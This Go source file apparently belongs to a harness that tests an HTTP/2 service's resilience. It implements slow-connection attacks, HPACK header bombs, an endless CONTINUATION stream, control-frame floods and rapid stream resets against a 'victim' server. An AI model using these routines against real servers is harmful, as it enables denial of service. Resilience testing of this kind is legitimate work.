package main

import (
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// slowConnections opens connections that say nothing, a byte of their headers a second, a byte
// of a message a second, or nothing after their headers.
func slowConnections(ctx context.Context, v victim) {
	swarm(ctx, 5000, func(ctx context.Context, i int) {
		w, err := connect(ctx, v.clients, 1<<16)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			return
		}
		go w.read()
		headers := headerFrame(w.encode(submitReports, nil))
		if kind := i % 4; kind > 1 && w.open(1, submitReports) != nil {
			return
		}
		for sent := 0; ; sent++ {
			select {
			case <-w.gone:
				return
			case <-time.After(time.Second):
			}
			switch i % 4 {
			case 1:
				_, err = w.Write(headers[min(sent, len(headers)):min(sent+1, len(headers))])
			case 2:
				err = w.data(1, message(1000, false, nil)[:1], 1, false)
			}
			if err != nil {
				return
			}
		}
	})
}

// headerFrame is a HEADERS frame in one piece.
func headerFrame(block []byte) []byte {
	var frame strings.Builder
	_ = http2.NewFramer(&frame, nil).WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true})
	return []byte(frame.String())
}

// headerBombs sends headers that a table makes long, and headers that never end.
func headerBombs(ctx context.Context, v victim) {
	long := hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)}
	swarm(ctx, 64, func(ctx context.Context, i int) {
		w, err := connect(ctx, v.clients, 1<<16)
		if err != nil {
			return
		}
		go w.read()
		for stream := uint32(1); ctx.Err() == nil; stream += 2 {
			repeated := 4 // just below what is allowed
			if i%3 == 0 {
				repeated = 10_000
			}
			if i%3 != 1 {
				fields := make([]hpack.HeaderField, repeated)
				for j := range fields {
					fields[j] = long
				}
				if w.open(stream, submitReports, fields...) != nil {
					return
				}
				continue
			}
			err := w.write(func() error {
				return w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: w.encode(submitReports, nil)})
			})
			for err == nil && ctx.Err() == nil {
				err = w.write(func() error {
					return w.framer.WriteContinuation(stream, false, w.encode("", []hpack.HeaderField{long}))
				})
			}
			return
		}
	})
}

// frameFloods sends the small frames that a server answers, and does not read the answers.
func frameFloods(ctx context.Context, v victim) {
	swarm(ctx, 32, func(ctx context.Context, i int) {
		w, err := connect(ctx, v.clients, 1<<16)
		for err == nil && ctx.Err() == nil {
			err = w.write(func() error {
				for range 1000 {
					switch i % 4 {
					case 0:
						err = w.framer.WritePing(false, [8]byte{})
					case 1:
						err = w.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
					case 2:
						err = w.framer.WriteRSTStream(uint32(1), http2.ErrCodeCancel)
					case 3:
						err = w.framer.WriteWindowUpdate(0, 1)
					}
					if err != nil {
						return err
					}
				}
				return nil
			})
		}
	})
}

// resets begins calls and resets them at once.
func resets(ctx context.Context, v victim) {
	swarm(ctx, 32, func(ctx context.Context, _ int) {
		w, err := connect(ctx, v.clients, 1<<16)
		if err != nil {
			return
		}
		go w.read()
		for stream := uint32(1); err == nil && stream < 20_000 && ctx.Err() == nil; stream += 2 {
			if err = w.open(stream, submitReports); err == nil {
				err = w.write(func() error { return w.framer.WriteRSTStream(stream, http2.ErrCodeCancel) })
			}
		}
	})
}
